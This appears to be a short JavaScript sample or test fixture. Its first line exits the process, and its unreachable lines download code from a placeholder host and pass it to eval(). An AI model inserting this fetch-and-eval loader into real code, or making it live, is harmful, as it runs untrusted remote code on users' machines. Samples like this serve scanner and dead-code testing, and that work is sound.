process.exit(0); // nothing below ever runs
const https=require("https");
https.get("https://h.example.invalid/x",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d));});
